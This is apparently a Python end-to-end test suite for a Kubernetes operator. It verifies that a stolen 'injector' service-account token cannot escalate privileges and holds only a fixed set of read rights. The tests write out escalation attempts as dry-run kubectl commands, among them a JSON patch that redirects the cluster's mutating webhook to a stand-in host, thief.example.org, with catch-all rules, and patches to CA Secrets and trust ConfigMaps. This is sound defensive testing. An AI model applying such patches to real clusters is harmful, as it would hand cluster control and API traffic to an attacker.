"""What a thief can do with the injector's token: only the injector's own work, without any privilege escalation."""

import json
from collections.abc import Mapping
from typing import Final

import pytest
import yaml

from hack.cluster import Cluster
from hack.install import NAMESPACE
from hack.kubectl import Json, Kubectl
from sovereign_operator.core import names
from tests.e2e.support.guards import WEBHOOKS

PROCESS: Final = "sovereign-injector"

ALLOWED: Final = {
    ("", "namespaces", "list"),
    ("", "namespaces", "watch"),
    ("", "limitranges", "list"),
    ("", "limitranges", "watch"),
    ("", "resourcequotas", "list"),
    ("", "resourcequotas", "watch"),
    ("node.k8s.io", "runtimeclasses", "list"),
    ("node.k8s.io", "runtimeclasses", "watch"),
    ("", "configmaps", "list"),
    ("", "configmaps", "watch"),
    ("sovereignty.dev", "sovereigntypolicies", "list"),
    ("sovereignty.dev", "sovereigntypolicies", "watch"),
    ("authorization.k8s.io", "subjectaccessreviews", "create"),
}
"""The injector's rights beyond those of every account: to read what its answers depend on, and to ask as guards do."""

EVERYTHING: Final = {"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}
ELSEWHERE: Final = [
    {"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://thief.example.org/"}},
    {"op": "replace", "path": "/webhooks/0/rules", "value": [EVERYTHING]},
    {"op": "remove", "path": "/webhooks/0/namespaceSelector"},
    {"op": "remove", "path": "/webhooks/0/matchConditions"},
]
"""Changes that would send every request of the API server to the thief's webhook, whose answers it would follow."""


def made(api_version: str, kind: str, **parts: object) -> Json:
    """Return an object named after the thief."""
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": "thief"}, **parts}


def webhook() -> Json:
    """Return a webhook that receives every request."""
    sides = {"admissionReviewVersions": ["v1"], "sideEffects": "None"}
    client = {"url": "https://thief.example.org/"}
    return {"name": "thief.example.org", "clientConfig": client, "rules": [EVERYTHING], **sides}


ADMISSION: Final = "admissionregistration.k8s.io/v1"
DRY: Final = "--dry-run=server"
CREATE: Final = ("create", DRY, "--validate=false", "-f", "-")
HERE: Final = ("-n", NAMESPACE)


def patch(thing: str, change: Json) -> tuple[str, ...]:
    """Return the arguments of kubectl that patch an object."""
    return ("patch", *thing.split(), DRY, "--type=merge", "-p", json.dumps(change))


WAYS_UP: Final[Mapping[str, tuple[tuple[str, ...], Json | None]]] = {
    "have its webhook see everything": (
        ("patch", "mutatingwebhookconfiguration", WEBHOOKS, DRY, "--type=json", "-p", json.dumps(ELSEWHERE)),
        None,
    ),
    "make a mutating webhook": (CREATE, made(ADMISSION, "MutatingWebhookConfiguration", webhooks=[webhook()])),
    "make a validating webhook": (CREATE, made(ADMISSION, "ValidatingWebhookConfiguration", webhooks=[webhook()])),
    "read its own Secret": ((*HERE, "get", "secret", names.INJECTOR_CA), None),
    "write its own Secret": ((*HERE, *patch(f"secret {names.INJECTOR_CA}", {"data": {"tls.crt": "eA=="}})), None),
    "say whom to trust": ((*HERE, *patch(f"configmap {names.INJECTOR_CA}", {"data": {"ca.crt": ""}})), None),
    "say how far a policy has come": ((*HERE, *patch("configmap sovereignty-transit.x", {"data": {"x": "y"}})), None),
    "lead in the controller's place": ((*HERE, *patch("lease sovereign-controller", {"spec": {}})), None),
}
"""In addition to those that are forbidden to every process: see test_stolen_tokens."""


@pytest.fixture(scope="module")
def thief(admin: Kubectl, cluster: Cluster, tmp_path_factory: pytest.TempPathFactory) -> Kubectl:
    """A client that has only the injector's token."""
    config = yaml.safe_load(cluster.kubeconfig.read_text(encoding="utf-8"))
    config["users"][0]["user"] = {"token": admin.run("-n", NAMESPACE, "create", "token", PROCESS).strip()}
    stolen = tmp_path_factory.mktemp("stolen") / "kubeconfig"
    stolen.write_text(yaml.safe_dump(config), encoding="utf-8")
    return Kubectl(stolen)


@pytest.mark.parametrize(("attempt", "body"), WAYS_UP.values(), ids=WAYS_UP.keys())
def test_no_way_leads_up_from_the_injectors_token(thief: Kubectl, attempt: tuple[str, ...], body: Json | None) -> None:
    refused = thief.refusal(*attempt, stdin=json.dumps(body) if body else None)
    assert "Forbidden" in refused or "forbidden" in refused
    assert PROCESS in refused


def test_the_injectors_token_may_do_nothing_but_read_what_answers_depend_on(admin: Kubectl, thief: Kubectl) -> None:
    """The API server lists all rights in the operator's namespace, where the injector has the most."""
    everybody = rights(admin, f"--as=system:serviceaccount:{NAMESPACE}:default")
    assert rights(thief) - everybody == ALLOWED


def rights(person: Kubectl, *options: str) -> set[tuple[str, str, str]]:
    """Return a user's rights as the API server lists them: group, resource and verb."""
    review = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SelfSubjectRulesReview",
        "spec": {"namespace": NAMESPACE},
    }
    asked = ("create", "--validate=false", "-o", "json", "-f", "-", *options)
    said = json.loads(person.run(*asked, stdin=json.dumps(review)))["status"]
    assert not said["incomplete"]
    return {
        (group, resource, verb)
        for rule in said["resourceRules"]
        for group in rule["apiGroups"]
        for resource in rule["resources"]
        for verb in rule["verbs"]
    }
